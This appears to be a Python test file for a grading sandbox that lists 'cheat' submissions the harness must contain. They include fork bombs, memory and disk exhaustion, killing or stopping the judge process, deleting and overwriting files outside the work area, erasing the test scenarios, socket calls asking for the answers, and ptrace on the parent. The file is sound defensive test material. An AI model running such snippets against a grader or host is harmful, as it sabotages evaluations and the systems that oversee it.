"""Harming: too many, too much, outside, and others. Nothing of it may reach beyond the worker."""

from tests.grader.cheats import Cheat, gives, runs

ZERO = "0.0 * log_probs.sum()"
CHEATS = [
    Cheat(
        "leaves threads running",
        gives(
            ZERO,
            """
import threading, time
def busy():
    while True:
        time.sleep(0.001)
for _ in range(4):
    threading.Thread(target=busy, daemon=True).start()
""",
        ),
    ),
    Cheat(
        "a fork bomb",
        gives(ZERO, "import os\nfor _ in range(30):\n    try:\n        os.fork()\n    except OSError:\n        pass"),
    ),
    Cheat(
        "leaves daemons in sessions of their own",
        gives(
            ZERO,
            """
import os, time
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
""",
        ),
    ),
    Cheat("takes all memory", gives(ZERO, "kept = [bytearray(2**26) for _ in range(64)]")),
    Cheat(
        "takes all memory, shared", gives(ZERO, "import mmap\nkept = mmap.mmap(-1, 2**33)\nkept[:4096] = b'x' * 4096")
    ),
    Cheat(
        "takes memory that belongs to no process",
        gives(
            ZERO,
            """
import ctypes
libc = ctypes.CDLL(None)
if libc.shmget(0, ctypes.c_size_t(2**30), 0o1600) < 0:
    raise MemoryError
""",
        ),
    ),
    Cheat("takes memory in a tensor", runs("return torch.ones(2**32).sum()")),
    Cheat(
        "fills the disk",
        gives(
            ZERO,
            """
import os
for folder in ("/tmp", "/dev/shm", "/confined/work", "@HOME@"):
    for n in range(40):
        try:
            with open(f"{folder}/fill{n}", "wb") as file:
                file.write(bytes(2**22))
        except OSError:
            break
""",
        ),
    ),
    Cheat("fills the disk with nothing", gives(ZERO, "for n in range(100_000):\n    open(f'/tmp/{n}', 'w').close()")),
    Cheat(
        "writes a file without end",
        runs("with open('/tmp/large', 'wb') as file:\n    while True:\n        file.write(bytes(2**20))"),
    ),
    Cheat(
        "prints without end",
        runs(
            """
import sys
for _ in range(100):
    print("x" * 2**20)
    print("y" * 2**20, file=sys.stderr)
return 0.0 * log_probs.sum()
"""
        ),
    ),
    Cheat("opens files without end", gives(ZERO, "kept = [open('/dev/null') for _ in range(100_000)]")),
    Cheat(
        "makes namespaces of its own, with file systems without bounds",
        gives(
            ZERO,
            """
import ctypes, os
libc = ctypes.CDLL(None)
if libc.unshare(0x10000000 | 0x20000) != 0:
    raise PermissionError
libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=100g")
""",
        ),
    ),
    Cheat(
        "leaves a note for the next student",
        gives(
            ZERO,
            """
import ctypes
libc = ctypes.CDLL(None)
if libc.syscall(248, b"user", b"answers", b"@SECRET@", 8, -4) < 0:
    raise PermissionError
""",
        ),
    ),
    Cheat(
        "kills whoever can be killed",
        gives(
            ZERO,
            """
import os, signal
for number in (os.getppid(), 0, 1, -1, *range(2, 400)):
    try:
        if number != os.getpid() and number != 0:
            os.kill(number, signal.SIGKILL)
    except OSError:
        pass
""",
        ),
    ),
    Cheat(
        "looks for processes to stop",
        gives(
            ZERO,
            """
import glob, os, signal
for folder in glob.glob("/proc/[0-9]*"):
    if "judge" in open(folder + "/cmdline").read() or "fork_server" in open(folder + "/cmdline").read():
        if int(folder[6:]) != os.getpid():
            os.kill(int(folder[6:]), signal.SIGSTOP)
""",
        ),
    ),
    Cheat(
        "writes outside",
        gives(
            ZERO,
            """
import pathlib
for place in (
    "@ROOT@/written", "@ROOT@/solutions/written", "@HOME@/written", "/written", "/usr/written", "/etc/written",
    "/confined/written", "/confined/work/written", "/confined/course/course/written", "/proc/sys/kernel/core_pattern",
):
    try:
        pathlib.Path(place).write_text("x")
    except OSError:
        continue
    raise SystemError("written: " + place)
""",
        ),
    ),
    Cheat(
        "deletes what it can",
        gives(
            ZERO,
            """
import shutil
for place in ("@ROOT@", "/confined/course", "/confined/work", "@HOME@"):
    shutil.rmtree(place, ignore_errors=True)
""",
        ),
    ),
    Cheat(
        "changes its own given files",
        gives(
            ZERO,
            """
import pathlib
path = pathlib.Path(__file__).parents[1] / "testcases" / "scenarios.py"
path.chmod(0o666)
path.write_text("")
""",
        ),
    ),
    Cheat(
        "calls home",
        gives(
            ZERO,
            """
import socket, urllib.request
for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("192.0.2.1", 80), ("::1", @PORT@)):
    try:
        with socket.create_connection(address, timeout=0.3) as line:
            line.sendall(b"the answers, please")
    except OSError:
        continue
    raise SystemError("connected")
socket.getaddrinfo("example.org", 80)
""",
        ),
    ),
    Cheat(
        "speaks to others by name",
        gives(
            ZERO,
            """
import socket
line = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
line.connect("\\0grading-test-@PORT@")
line.sendall(b"the answers, please")
""",
        ),
    ),
    Cheat(
        "a child that answers after its parent's death",
        gives(
            ZERO,
            """
import os, time
if os.fork() == 0:
    os.setsid()
    time.sleep(1)
    while True:
        os.write(3, b"\\0" * 7 + b"\\x01x")
""",
        ),
    ),
    Cheat(
        "looks into its parent",
        runs(
            """
import ctypes, os
if ctypes.CDLL(None).ptrace(16, os.getppid() or 1, 0, 0) != 0:
    raise PermissionError
return log_probs.sum() * 0
"""
        ),
    ),
]
